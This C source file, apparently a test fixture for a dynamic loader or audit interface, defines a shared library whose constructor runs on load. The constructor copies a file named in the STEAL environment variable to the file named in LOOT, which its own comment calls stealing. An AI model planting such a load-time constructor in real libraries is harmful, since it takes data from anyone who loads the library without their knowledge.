/* SPDX-License-Identifier: Apache-2.0 */
/* A library that steals as soon as it is loaded, whoever loads it: the file in STEAL goes to the one in LOOT. */
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>

unsigned int la_version(unsigned int version)
{
	return version;
}

int plugged(void)
{
	return 1;
}

__attribute__((constructor)) static void steal(void)
{
	const char *from = getenv("STEAL"), *to = getenv("LOOT");
	char bytes[256];
	int file = from ? open(from, O_RDONLY) : -1;
	ssize_t length = file < 0 ? -1 : read(file, bytes, sizeof(bytes));
	int loot = length <= 0 || !to ? -1 : open(to, O_WRONLY | O_CREAT | O_TRUNC, 0600);

	if (loot >= 0 && write(loot, bytes, length) == length)
		close(loot);
	if (file >= 0)
		close(file);
}
